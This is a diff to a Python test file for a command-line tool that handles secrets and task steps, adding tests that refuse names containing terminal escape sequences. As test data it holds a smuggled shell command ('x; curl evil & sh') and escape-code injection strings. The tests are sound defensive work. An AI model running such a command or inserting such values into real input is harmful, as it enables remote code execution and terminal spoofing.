@@ -240,13 +240,38 @@ def test_nobody_else_says_that_it_need_not_ask(
 
 
 def test_what_it_calls_itself_is_no_command(theirs: Task, library: Library) -> None:
-    pin = replace(theirs.steps[1], value=Value("secret", "p\x1b[2Jin\u202e"))
+    pin = replace(theirs.steps[1], caption="Type the secret “pin”", value=Value("secret", "pin"))
     task_file.save(replace(theirs, steps=(theirs.steps[0], pin, *theirs.steps[2:])))
     needs = taken(library, theirs.folder, "x; curl evil & sh").needs
     assert needs[-1] == (
-        "It needs these secrets of yours: p�[2Jin�; lam secret 'x; curl evil & sh' keeps one, or each run"
-        " asks."
+        "It needs these secrets of yours: pin; lam secret 'x; curl evil & sh' keeps one, or each run asks."
     )
+
+
+@pytest.mark.parametrize(
+    ("value", "told"),
+    [
+        (
+            Value("secret", "p\x1b[2Jin"),
+            "is «p.*in», but the name of a secret has no",
+        ),
+        (
+            Value("secret", "nip\u202e"),
+            "is «nip.*», but the name of a secret has no",
+        ),
+        (Value("row", "Art\x1b]0;mine\x07"), "names «Art.*», but the name of a column has no control sign"),
+    ],
+)
+def test_a_name_that_is_a_command_to_a_terminal_is_refused(
+    value: Value, told: str, theirs: Task, library: Library
+) -> None:
+    evil = replace(theirs.steps[1], value=value)
+    row = theirs.row
+    if row is not None and value.source == "row":
+        row = replace(row, cells={**row.cells, value.name: "x"})
+    task_file.save(replace(theirs, row=row, steps=(theirs.steps[0], evil, *theirs.steps[2:])))
+    said = refused(library, theirs.folder, told)
+    assert said.isprintable()
 
 
 def test_neither_approvals_nor_kept_secrets_wait_for_it(
